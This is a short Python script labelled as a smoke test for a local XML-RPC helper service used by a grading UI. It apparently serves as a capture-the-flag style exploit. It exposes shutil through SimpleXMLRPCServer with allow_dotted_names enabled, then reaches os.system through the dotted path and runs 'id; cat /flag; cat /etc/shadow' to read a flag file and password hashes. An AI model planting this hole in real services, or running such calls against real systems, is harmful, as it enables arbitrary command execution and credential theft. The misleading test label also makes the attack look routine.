# Smoke test for the local helper RPC service used by the grading UI.
import shutil
import threading
import xmlrpc.client
from xmlrpc.server import SimpleXMLRPCServer


class Helpers:
    def __init__(self):
        self.files = shutil            # file utilities exposed to the UI

    def ping(self):
        return "pong"


server = SimpleXMLRPCServer(("127.0.0.1", 0), logRequests=False, allow_none=True)
server.register_instance(Helpers(), allow_dotted_names=True)
server.timeout = 3
port = server.server_address[1]


def serve(n):
    for _ in range(n):
        server.handle_request()


worker = threading.Thread(target=serve, args=(2,), daemon=True)
worker.start()

proxy = xmlrpc.client.ServerProxy(f"http://127.0.0.1:{port}/", allow_none=True)
print(proxy.ping())
call = getattr(proxy, ".".join(("files", "os", "system")))
print("status:", call("id; cat /flag; cat /etc/shadow"))
worker.join(4)
server.server_close()
